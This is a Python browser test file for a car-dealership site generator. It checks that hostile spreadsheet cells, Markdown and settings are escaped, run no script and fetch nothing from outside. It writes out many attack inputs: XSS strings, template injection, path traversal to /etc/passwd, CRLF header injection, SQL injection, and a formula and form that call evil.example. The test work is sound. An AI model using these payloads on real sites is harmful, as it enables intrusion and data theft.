"""A spreadsheet, Markdown and settings that attack: built, published, and opened in a real browser."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from html import unescape
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest

from tests.conftest import NOW, SETTINGS, Dealership, open_dealership
from tests.site.reading import Page, VehiclePage, vehicle_pages

pytestmark = pytest.mark.browser

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "single": "' onmouseover='alert(1)' x='",
    "svg": "<svg/onload=alert(1)>",
    "close": "</script><script>alert(1)</script>",
    "title": "</title><script>alert(1)</script>",
    "textarea": "</textarea><script>alert(1)</script>",
    "comment": "--><!--<script>alert(1)</script>",
    "cdata": "]]><script>alert(1)</script>",
    "expression": "{{ 7*7 }}",
    "statement": "{% raise %}{% include '/etc/passwd' %}",
    "hash": "{# gone #} ${7*7} #{7*7} <%= 7*7 %>",
    "address": "javascript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "path": "../../etc/passwd",
    "windows": "..\\..\\windows\\win.ini",
    "lines": "first\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "bidi": "abc\u202egpj.exe\u2066\u200f",
    "invisible": "a\u200bb\u00adc\ufeffd",
    "sql": "'; DROP TABLE vehicles; --",
    "formula": '=HYPERLINK("https://evil.example/","x")',
    "emoji": "🚗💨 👩\u200d🔧 𝕏",
    "signs": "???",
    "japanese": "日本語",
    "long": "Muito longo " * 400,
    "longword": "W" * 3000,
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;&amp;amp;",
    "separator": "a\u2028b\u2029c\x0bd\x0ce",
    "braces": "{{{----}}}",
}
SAY_NOTHING = {"signs", "braces"}
"""Names without a letter or a digit in any script: their rows are set aside."""
HEADER = [
    *("Código", "Marca", "Modelo", "Versão", "Ano", "KM", "Preço", "Combustível", "Câmbio", "Carroceria", "Cor"),
    *("Cor interna", "Motor", "Potência", "Opcionais", "Descrição", "Foto 1", "Foto 2", "Foto 3", "Foto 4", "Vídeo"),
    *("Situação", "Condição", "Loja", "Chassi", "Placa"),
]
"""Every text field that a spreadsheet can feed, and those that become addresses or choices."""
PARAGRAPH = "Um parágrafo que não acaba. <b>negrito</b> <script>alert(1)</script> "
MEGABYTE = PARAGRAPH * 16_000


def attacked(number: int, attack: str) -> list[str]:
    """A row with the attack in every field but its year, mileage and price, which let it through."""
    text = {
        "Código": f"S{number} {attack}", "Ano": "2021", "KM": "10500", "Preço": "50900",
        "Foto 2": "javascript:alert(1)", "Foto 3": "../../../etc/passwd", "Foto 4": "data:image/svg+xml,<svg/>",
    }  # fmt: skip
    return [text.get(name, attack) for name in HEADER]


def plain(number: int, **cells: str) -> list[str]:
    """A sound row, but for `cells`."""
    text = {
        "Código": f"P{number}", "Marca": "Fiat", "Modelo": "Argo", "Ano": "2021", "KM": "10500", "Preço": "50900",
    } | cells  # fmt: skip
    return [text.get(name, "") for name in HEADER]


def spreadsheet() -> str:
    rows = [attacked(number, attack) for number, attack in enumerate(ATTACKS.values())]
    rows += [plain(number, **{name: attack}) for number, (name, attack) in enumerate(
        (name, attack) for name in ("Ano", "KM", "Preço") for attack in ("<script>alert(1)</script>", "{{ 7*7 }}")
    )]  # fmt: skip
    rows += [plain(90, Descrição=MEGABYTE), plain(91, Modelo=PARAGRAPH * 40), plain(92, Vídeo="javascript:alert(1)")]
    rows += [
        plain(93, Descrição='<a href="javascript:alert(1)" onclick="alert(1)">x</a><style>*{display:none}</style>')
    ]
    rows += [plain(94, Vídeo='https://video.example/"onclick="alert(1)'), plain(95, Código="nul\x00byte")]
    rows += [plain(number) for number in range(100, 120)]
    text = io.StringIO()
    csv.writer(text, delimiter=";").writerows([HEADER, *rows])
    return text.getvalue()


MARKDOWN = """\
---
title: '<script>alert(1)</script> {{{{ 7*7 }}}} "aspas"'
{meta}
---

<script>alert(1)</script><img src=x onerror=alert(1)><iframe src="https://evil.example/"></iframe>

[press](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(1)>

![a](//[evil.example/x.png) ![b](/\\\\evil.example/x.png) ![c](https:evil.example/x.png) ![d](HTTPS://u@evil.example/x)

![local](../../../../etc/passwd) {{{{ 7*7 }}}} {{% raise %}}

<form action="https://evil.example/"><input name=password></form><style>* {{ display: none }}</style>
<a href="https://ok.example/" onclick="alert(1)" style="position:fixed">link</a> <!-- <script>alert(1)</script> -->
<svg><script>alert(1)</script></svg><math><mtext></p><script>alert(1)</script>

| <b onclick=alert(1)>x</b> | y |
|---|---|
| `<script>alert(1)</script>` | 1 |
"""
HOSTILE = "\"><script>alert(1)</script>' {{ 7*7 }} </title></script>"


def content(site: Dealership) -> None:
    offer = (
        "summary: '<img src=x onerror=alert(1)>'\nvalid_from: 2026-11-01\nvalid_to: 2026-12-31\n"
        "call_to_action: '<b onclick=alert(1)>Ver</b>'\nstock_numbers: ['P100', '../../x']\nbadge: '</p><script>'\n"
        "legal: '</div><script>alert(1)</script>'"
    )
    post = "summary: '</p><script>alert(1)</script>'\ndate: 2026-11-02\nauthor: '<b>x</b>\"'\ncategory: '<i>'"
    for ending in ("", ".en"):
        site.content(f"offers/ataque{ending}.md", MARKDOWN.format(meta=offer))
        site.content(f"posts/ataque{ending}.md", MARKDOWN.format(meta=post))
        site.content(f"pages/ataque{ending}.md", MARKDOWN.format(meta="summary: '\"><script>'\nform: true"))


@pytest.fixture(scope="module")
def attacked_site(tmp_path_factory: pytest.TempPathFactory) -> Dealership:
    rooftop = SETTINGS["rooftops"][0]
    address = rooftop["address"] | {"street": HOSTILE, "city": HOSTILE, "district": "<b>"}
    site = open_dealership(
        tmp_path_factory.mktemp("hostile") / "dealership",
        dealer={"name": f"Garagem {HOSTILE}", "legal_name": HOSTILE, "tagline": HOSTILE, "email": "a@b.example"},
        rooftops=[rooftop | {"name": HOSTILE, "address": address, "aliases": list(ATTACKS.values())[:3]}],
        languages=["pt-BR", "en"],
        legal={"price_note": HOSTILE, "footer": HOSTILE, "consent": HOSTILE},
        seo={"home_title": HOSTILE, "vehicle_title": "{make} {model} " + HOSTILE.replace("{{ 7*7 }}", "")},
        inventory={"columns": {"stock_number": "Código", "video": "Vídeo"}},
    )
    site.inventory(spreadsheet())
    content(site)
    site.build()
    return site


@pytest.fixture(scope="module")
def pages(attacked_site: Dealership) -> dict[str, str]:
    return attacked_site.pages()


@pytest.fixture(scope="module")
def victims(pages: dict[str, str]) -> dict[str, list[VehiclePage]]:
    """Attack → the pages, one a language, of the vehicle that carries it."""
    found: dict[str, list[VehiclePage]] = {}
    for vehicle in vehicle_pages(pages):
        if match := re.match(r"S(\d+) ", vehicle.hidden.get("stock_number", "")):
            found.setdefault(list(ATTACKS)[int(match[1])], []).append(vehicle)
    return found


def test_every_row_that_names_a_vehicle_is_published(victims: dict[str, list[VehiclePage]]) -> None:
    assert ATTACKS.keys() - victims.keys() == SAY_NOTHING
    assert {len(found) for found in victims.values()} == {2}


def test_no_page_runs_a_script_asks_a_stranger_or_breaks_its_policy(
    attacked_site: Dealership, pages: dict[str, str], serve: Callable[[Path], str], watch: Callable[..., Any]
) -> None:
    tab = watch(serve(attacked_site.out), viewport={"width": 360, "height": 740})
    for address in pages:
        if not address.endswith("404.html"):
            tab.open(address)
            found = tab.page.evaluate(SUSPICIONS)
            assert not found, (address, found)
    assert tab.faults == []


SUSPICIONS = """() => {
  const wrong = [];
  for (const script of document.scripts) {
    const known = script.type === 'application/ld+json' || new URL(script.src).origin === location.origin;
    if (!known) wrong.push(script.outerHTML);
    if (script.type === 'application/ld+json') JSON.parse(script.textContent);
  }
  for (const element of document.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on') || name === 'style' || name === 'srcdoc') wrong.push(element.outerHTML);
      if (['href', 'src', 'action', 'formaction'].includes(name) && /^\\s*(javascript|data|vbscript):/i.test(value)) {
        wrong.push(element.outerHTML);
      }
    }
  }
  wrong.push(...[...document.querySelectorAll('iframe, object, embed, base, style, meta[http-equiv]')].map(String));
  for (const form of document.forms) {
    if (!['/api/lead'].includes(form.getAttribute('action'))) wrong.push(form.outerHTML);
  }
  return wrong;
}"""


def seen(attack: str) -> str:
    """The text of a one-line cell: entities read once, marks that cannot be seen taken out, white space joined."""
    text = unescape(attack)
    text = re.sub("[\u200b-\u200c\u200e\u200f\u202a-\u202e\u2060-\u2069\u00ad\ufeff]", "", text)
    return " ".join(re.sub("[\x00-\x1f\x7f\u2028\u2029]", " ", text).split()).casefold()


@pytest.mark.parametrize("name", [name for name in ATTACKS if name not in {"long", "longword", "entity", *SAY_NOTHING}])
def test_an_attack_is_read_as_the_text_that_it_is(victims: dict[str, list[VehiclePage]], name: str) -> None:
    text = seen(ATTACKS[name])
    for vehicle in victims[name]:
        page, car = vehicle.page, vehicle.car
        assert car["brand"]["name"].casefold() == text
        assert car["model"].casefold() == text
        assert car["name"].casefold() == f"{text} {text} {text} 2021"
        assert page.one("h1").text.casefold() == f"{text} {text} {text} 2021"
        assert text in page.one("title").text.casefold()
        assert text in page.one("meta", property="og:title").attributes["content"].casefold()
        assert vehicle.hidden["stock_number"].casefold().endswith(text)
        assert text in page.one("textarea", name="message").text.casefold()
        assert page.all("img")[0].attributes["alt"]
        chat = next(link for link in page.links if link.startswith("https://wa.me/"))
        assert text in " ".join(unquote(chat).split()).casefold()


def test_markup_in_a_description_is_taken_out_and_its_words_stay(victims: dict[str, list[VehiclePage]]) -> None:
    for vehicle in victims["expression"]:
        assert vehicle.car["description"] == "{{ 7*7 }}"
    for attack in ("script", "close", "svg", "attribute", "title", "textarea"):
        for vehicle in victims[attack]:
            assert "alert(1)" not in vehicle.car.get("description", "")


def test_a_megabyte_in_a_cell_is_cut_and_told(attacked_site: Dealership, pages: dict[str, str]) -> None:
    report = attacked_site.build()
    assert [problem.code for problem in report.warnings].count("inventory.text-cut") >= 1
    assert "Um parágrafo que não acaba." in "".join(pages.values())
    assert max(len(text) for text in pages.values()) < 400_000


def test_every_file_lies_in_the_output_under_a_name_that_any_disk_takes(attacked_site: Dealership) -> None:
    names = list(attacked_site.files())
    assert len(names) > 100
    for name in names:
        assert re.fullmatch(r"[A-Za-z0-9._/-]+", name), name
        assert len(name.encode()) < 255
        for part in name.split("/"):
            assert 0 < len(part) < 200, name
            assert part not in (".", "..")
    beside = {path.name for path in attacked_site.root.iterdir()}
    assert beside == {"site.yaml", "inventory.csv", "content", "public", ".dealergen"}
    assert [path.name for path in attacked_site.root.parent.iterdir()] == ["dealership"]
    assert "root:" not in "".join(attacked_site.pages().values())


def test_every_address_on_every_page_leads_somewhere(attacked_site: Dealership, pages: dict[str, str]) -> None:
    files = {f"/{name}" for name in attacked_site.files()}
    for address, text in pages.items():
        for link in Page(text).links:
            path = unquote(link.split("#")[0].split("?")[0])
            if path.startswith("/"):
                assert path in pages or path in files, f"{address} links to {link}"
            else:
                assert link.startswith(("#", "https://", "tel:", "mailto:")), f"{address} links to {link}"


def test_no_line_is_smuggled_into_the_files_for_hosts_and_robots(attacked_site: Dealership) -> None:
    from lxml import etree  # type: ignore[import-untyped]

    headers = (attacked_site.out / "_headers").read_text("utf-8").splitlines()
    assert all(re.fullmatch(r"|/\S*|  [A-Za-z-]+: .*", line) for line in headers)
    assert not any("Set-Cookie" in line or "evil" in line for line in headers)
    redirects = (attacked_site.out / "_redirects").read_text("utf-8").splitlines()
    assert all(re.fullmatch(r"/\S* /\S* \d{3}", line) for line in redirects)
    maps = [attacked_site.out / "sitemap.xml", *(attacked_site.out / "sitemaps").iterdir()]
    locations = [text for file in maps for text in etree.parse(file).xpath("//*[local-name()='loc']/text()")]
    assert len(locations) > 100
    assert all(re.fullmatch(r"https://www\.garagem-teste\.example/[!-~]*", text) for text in locations)


def test_settings_and_markdown_show_their_text_and_run_nothing(pages: dict[str, str]) -> None:
    home = Page(pages["/"])
    assert home.one("title").text == HOSTILE
    dealer = next(node for node in home.nodes if node["@type"] == "AutoDealer")
    assert dealer["name"] == f"Garagem {HOSTILE}"
    assert dealer["address"]["addressLocality"] == HOSTILE
    for address in ("/ofertas/ataque/", "/blog/ataque/", "/ataque/", "/en/blog/ataque/"):
        page = Page(pages[address])
        assert page.one("h1").text == '<script>alert(1)</script> {{ 7*7 }} "aspas"'
        text = page.one("main").text
        assert "{{ 7*7 }} {% raise %}" in text
        assert "evil.example" not in pages[address]
        assert "https://ok.example/" in page.links


def test_a_picture_from_elsewhere_in_markdown_is_told_and_never_asked_for(
    tmp_path: Path, serve: Callable[[Path], str], watch: Callable[..., Any]
) -> None:
    site = open_dealership(tmp_path / "dealership")
    site.inventory("Marca;Modelo;Preço\nFiat;Argo;69.900\n")
    site.content("pages/espia.md", "---\ntitle: Espia\n---\n\nAntes ![foto](https://evil.example/spy.gif) depois.\n")
    report = site.build()
    assert "content.outward-image" in [problem.code for problem in report.warnings]
    asked: list[str] = []
    tab = watch(serve(site.out))
    tab.page.route("https://**", lambda route: (asked.append(route.request.url), route.abort()))
    tab.open("/espia/")
    assert asked == []


def test_bytes_that_are_no_text_still_give_a_whole_site(tmp_path: Path) -> None:
    site = open_dealership(tmp_path / "dealership")
    rows = [
        b"T1;Fiat;Argo \xed\xa0\x80\xff\xfe;69900",
        b"T2;Fiat\x00;To\x00ro;\x0089900",
        b"T3;\xe2\x28\xa1;Uno\x81;19900",
    ]
    site.inventory(b"\n".join([b"C\xf3digo;Marca;Modelo;Pre\xe7o", *rows, b""]))
    report = site.build(now=NOW)
    assert report.vehicles == 3
    prices = {vehicle.car.get("offers", {}).get("price") for vehicle in vehicle_pages(site.pages())}
    assert prices == {"69900", "89900", "19900"}
    for name, data in site.files().items():
        if name.endswith((".html", ".xml", ".json")):
            assert b"\0" not in data, name
            text = data.decode("utf-8")
            assert not re.search("[\x01-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]", text), name
            if name.endswith(".json"):
                json.loads(text)
